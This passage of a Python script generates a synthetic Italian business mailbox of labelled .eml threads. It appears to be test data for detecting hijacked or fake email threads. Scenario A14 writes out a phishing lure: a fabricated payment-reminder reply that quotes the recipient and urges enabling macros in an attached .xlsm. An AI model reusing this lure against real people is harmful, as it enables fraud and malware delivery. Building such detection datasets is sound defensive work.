            + H.escape(assospedi.sig).replace("\n", "<br>") + '<br><a href="https://www.linkedin.com/company/assospedi-liguria-example">LinkedIn</a> | '
            '<a href="https://www.assospedi-liguria.example/privacy">Informativa privacy</a></div></body></html>')


intro1 = "Gentili Associati,\n\nin allegato e ai link seguenti la circolare n. 07/2025 sulle novità ICS2 (release 3) e sulle nuove note AIDA per l'export:"
t26.add(assospedi, intro1 + "\n" + "\n".join(f"- {n}: {u}" for n, u in AL[:7]) + "\n\nLa Segreteria resta a disposizione per quesiti.",
        at(2025, 2, 3, 12, 0), to=[("Soci Assospedi Liguria", "soci@assospedi-liguria.example")],
        html=link_html(intro1, AL[:7], "La Segreteria resta a disposizione per quesiti."))
t26.add(me, "Buongiorno Dott.ssa Ferri,\n\ngrazie per la circolare. Una domanda pratica: per le spedizioni via Spagna con trasbordo a Valencia, l'ENS ICS2 lo "
        "presenta la compagnia di navigazione oppure dobbiamo fornire noi i dati del destinatario finale come house filer?", at(2025, 2, 4, 9, 30),
        to=[("Segreteria Assospedi Liguria", assospedi.email)])
intro2 = ("Buongiorno Dott.ssa Ferraro,\n\ndipende dal tipo di polizza. Se la compagnia emette una master B/L a vostro nome e voi una house B/L al "
          "destinatario finale, i dati della house li dovete trasmettere voi (o tramite la compagnia, se ha un accordo di multiple filing). Trova tutti i "
          "riferimenti qui sotto; in particolare le FAQ della Commissione (domande 4.3-4.7) e la nota ADM, che chiarisce il caso del trasbordo in un altro "
          "Stato membro:")
t26.add(assospedi, intro2 + "\n" + "\n".join(f"- {n}: {u}" for n, u in AL[1:]) + "\n\nNe parleremo anche al webinar del 20 febbraio.",
        at(2025, 2, 5, 11, 45), GH, ("G18", "T26: trade association's HTML reply with ten links (the association always writes with many links)"),
        html=link_html(intro2, AL[1:], "Ne parleremo anche al webinar del 20 febbraio."), quote=True)
t26.add(me, "Grazie mille, chiarissimo.", at(2025, 2, 5, 12, 30), to=[("Segreteria Assospedi Liguria", assospedi.email)])

# ================================================================ T27 Google Group (Utenti AIDA Export): replies via the list, DMARC From rewrite
GRP = ("Utenti AIDA Export", "utenti-aida-export@googlegroups.com")
GID = "718230594412"


def list_headers(orig, dmarc_rewrite):
    h = [("X-Original-Sender", orig.email),
         ("X-Original-Authentication-Results", f"gmr-mx.google.com;\n       dkim=pass header.i=@{orig.dom if orig.dom != 'gmail.com' else 'gmail.com'} header.s="
                                               f"{'mail' if dmarc_rewrite else '20230601'} header.b={alnum(8)};\n       spf=pass (google.com: domain of {orig.email} designates "
                                               f"{'80.211.' + str(R.randint(1, 250)) + '.' + str(R.randint(1, 250)) if dmarc_rewrite else '209.85.220.41'} as permitted sender) "
                                               f"smtp.mailfrom={orig.email};\n       dmarc=pass (p={'REJECT' if dmarc_rewrite else 'NONE'} sp={'REJECT' if dmarc_rewrite else 'QUARANTINE'} "
                                               f"dis=NONE) header.from={orig.dom}"),
         ("Precedence", "list"), ("Mailing-list", f"list {GRP[1]}; contact utenti-aida-export+owners@googlegroups.com"),
         ("List-ID", "<utenti-aida-export.googlegroups.com>"), ("X-Spam-Checked-In-Group", GRP[1]), ("X-Google-Group-Id", GID),
         ("List-Post", f"<https://groups.google.com/group/utenti-aida-export/post>, <mailto:{GRP[1]}>"),
         ("List-Help", "<https://support.google.com/a/users/answer/9308783>,\n <mailto:utenti-aida-export+help@googlegroups.com>"),
         ("List-Archive", "<https://groups.google.com/group/utenti-aida-export/>"),
         ("List-Unsubscribe", f"<mailto:googlegroups-manage+{GID}+unsubscribe@googlegroups.com>,\n <https://groups.google.com/group/utenti-aida-export/subscribe>")]
    if dmarc_rewrite: h.insert(1, ("X-Original-From", f"{orig.name} <{orig.email}>"))
    return h


def list_footer(mid):
    enc = mid[1:-1].replace("@", "%40").replace("+", "%2B").replace("=", "%3D").replace("$", "%24")
    return ("\n\n-- \nHai ricevuto questo messaggio perché sei iscritto al gruppo \"Utenti AIDA Export\" di Google Gruppi.\nPer annullare l'iscrizione a "
            "questo gruppo e non ricevere più le sue email, invia un'email a utenti-aida-export+unsubscribe@googlegroups.com.\nPer visualizzare questa "
            f"discussione, visita https://groups.google.com/d/msgid/utenti-aida-export/{enc}.")


def bounce_env(): return f"utenti-aida-export+bncBC{alnum(36)}@googlegroups.com"


S27 = "[utenti-aida-export] Errore N012 in validazione DAE con più articoli"
t27 = Thread(federico, S27, "it", "T27")
t27.add(me, "Buongiorno a tutti,\n\nda lunedì, validando dichiarazioni export con più di 20 articoli, ci torna l'errore N012 (\"incongruenza massa lorda tra "
        "testata e articoli\") anche se la somma torna al chilo. Capita anche a voi? Usiamo XDogane 5.2.", at(2025, 3, 5, 10, 20), to=[GRP],
        subj="Errore N012 in validazione DAE con più articoli")
m_s = make_mid(simona, "gmail", at(2025, 3, 5, 12, 40))
t27.add(simona, "Ciao Giulia,\n\nsì, capita anche a noi da lunedì. Sembra che il controllo ora arrotondi la massa di ogni articolo a tre decimali prima di "
        "sommarla: se in testata metti il totale arrotondato in modo diverso scatta l'errore. Noi abbiamo risolto arrotondando prima gli articoli e "
        "ricalcolando poi la testata.", at(2025, 3, 5, 12, 40), G, sig="\n\nSimona", to=[GRP], mid=m_s, env=bounce_env(),
        extra=list_headers(simona, False), qtext=lambda qb: qb + list_footer(m_s), subj="Re: " + S27)
t27.add(me, "Grazie Simona, provo subito!", at(2025, 3, 5, 14, 10), to=[GRP])
m_f = make_mid(federico, "tb", at(2025, 3, 6, 9, 5))
t27.add(federico, "Confermo quanto dice Simona. Aggiungo che ieri sera ADM ha pubblicato un avviso sul portale (sezione \"Novità AIDA\") in cui riconosce "
        "il problema e annuncia una correzione entro il 14/03; nel frattempo l'arrotondamento sugli articoli è la soluzione suggerita.",
        at(2025, 3, 6, 9, 5), GH, ("G16", "T27: Google Group reply with DMARC From rewrite \"'Federico Neri' via Utenti AIDA Export\", Reply-To, list headers/footer"),
        sig="\n\nFederico\n\n-- \nFederico Neri - Spedizioni Neri S.r.l. - Savona", to=[GRP], mid=m_f, env=bounce_env(), subj="Re: " + S27,
        frm=f"\"'Federico Neri' via Utenti AIDA Export\" <{GRP[1]}>", reply_to=f"Federico Neri <{federico.email}>",
        extra=list_headers(federico, True), qtext=lambda qb: qb + list_footer(m_f))

# ================================================================ T29 Russo: Outlook "I:" forward of a customs-office notice (orphan), then replies
t29 = Thread(russo, "I: Notifica esito controllo - dichiarazione 25IT26100E0052218", "it", "T29")
fw = ("Ciao Giulia,\n\nti inoltro la comunicazione dell'Ufficio delle Dogane di Genova 1 sulla dichiarazione del secondo container di Ceramiche "
      "Apuane: controllo documentale a posteriori, chiedono copia del contratto di vendita e la prova del pagamento entro 30 giorni. Niente di grave, "
      "è un controllo a campione. Mi mandi quello che hai?")
fw_q = ("\n\n________________________________\nDa: dogane.genova1.controlli@adm.gov.it <dogane.genova1.controlli@adm.gov.it>\nInviato: lunedì 10 marzo 2025 09:14\n"
        "A: Studio Doganale Bellini <info@doganebellini.example>\nOggetto: Notifica esito controllo - dichiarazione 25IT26100E0052218\n\n"
        "Si comunica che la dichiarazione in oggetto è stata selezionata per un controllo documentale a posteriori ai sensi dell'art. 48 del Reg. (UE) "
        "n. 952/2013. Si invita a trasmettere entro 30 giorni la documentazione indicata nella nota allegata.\n\nUfficio delle Dogane di Genova 1 - Sezione Export")
t29.add(russo, fw, at(2025, 3, 10, 10, 30), GO, ("G26", "orphan: the broker's Outlook 'I:' forward of a customs-office notice with PDF (forward, no In-Reply-To)"),
        quote=False, subj="I: Notifica esito controllo - dichiarazione 25IT26100E0052218", qtext=None,
        atts=[att("Nota_ADM_prot_2025_118744.pdf", pdf(["Agenzia delle Dogane e dei Monopoli", "Ufficio delle Dogane di Genova 1",
                                                       "Controllo a posteriori - dich. 25IT26100E0052218"], producer="Adobe PDF Library 17.0"))],
        sig=russo.sig + fw_q)
t29.add(me, "Ciao Chiara,\n\nti mando il contratto quadro con il cliente messicano e la contabile del bonifico ricevuto il 28/02.", at(2025, 3, 10, 15, 20),
        atts=[att("Contratto_fornitura_Ceramiche_Apuane_2025.pdf", pdf(["Contratto di fornitura 2025"])), att("Contabile_bonifico_28-02-2025.pdf", pdf(["Contabile bonifico"]))])
t29.add(russo, "Perfetto, rispondo io all'ufficio entro domani e ti giro la ricevuta del protocollo.", at(2025, 3, 11, 9, 40), G)

# ================================================================ A14 fake thread from a stranger
fake_parent = f"<{hx(32)}@EXMBX01.lanterna.local>"
fake_body = ("Buongiorno Sig.ra Ferraro,\n\nfacciamo seguito alla Sua mail qui sotto. Ad oggi la fattura n. 2025/0412 risulta ancora insoluta; Le alleghiamo "
             "l'estratto conto aggiornato con il dettaglio delle scadenze. Per visualizzare correttamente i calcoli è necessario abilitare le macro "
             "all'apertura del file.\n\nRestiamo in attesa di un cortese riscontro entro la giornata.\n\nCordiali saluti\nUfficio Amministrazione\n"
             "Nordovest Forniture Industriali S.r.l.\n\n"
             "Da: Giulia Ferraro <giulia.ferraro@lanterna-spedizioni.example>\nInviato: martedì 11 marzo 2025 10:40\nA: amministrazione@nordovest-forniture.example\n"
             "Oggetto: Fattura n. 2025/0412\n\nBuongiorno,\n\nabbiamo ricevuto la vostra fattura, la stiamo verificando con l'ufficio acquisti e vi faremo "
             "sapere al più presto.\n\nCordiali saluti\n\nGiulia Ferraro\nLanterna Spedizioni Internazionali S.r.l.")
emit(nordovest, "ol16", at(2025, 3, 14, 8, 12), [(me.name, me.email)], None, "R: Fattura n. 2025/0412 - sollecito di pagamento", [fake_parent], fake_body,
     label=HJ("fake-thread"), scen=("A14", "fake thread: stranger, 'R: Fattura n. 2025/0412' with a fabricated Outlook-IT quote of Giulia, .xlsm"),
     atts=[att("Estratto_conto_Fattura_2025-0412.xlsm", ooxml("x", macro=True, text="Estratto conto al 13/03/2025"))])

# ================================================================ write, in arrival order
pending.sort(key=lambda x: x[0])
labels = ["mailbox\tmessage_id\tlabel\tkind"]
scen = ["file\tscenario\tdescription"]
for i, (t, folder, raw, lab, sc) in enumerate(pending, 1):
    path = f"mailboxes/{MB}/{folder}/{i}.eml"
    with open(f"{root}/{path}", "w", encoding="utf-8", newline="") as f: f.write(raw)
    if lab:
        labels.append(f"{MB}\t{lab[0]}\t{lab[1]}\t{lab[2]}")
        scen.append(f"{path}\t{sc[0]}\t{sc[1]}")
open(f"{root}/labels.tsv", "w", encoding="utf-8").write("\n".join(labels) + "\n")
open(f"{root}/scenarios.tsv", "w", encoding="utf-8").write("\n".join(scen) + "\n")
print(f"{len(pending)} messages, {len(labels) - 1} labelled "
      f"({sum(1 for l in labels[1:] if l.split(chr(9))[2] == 'hijack')} hijack) -> {root}")
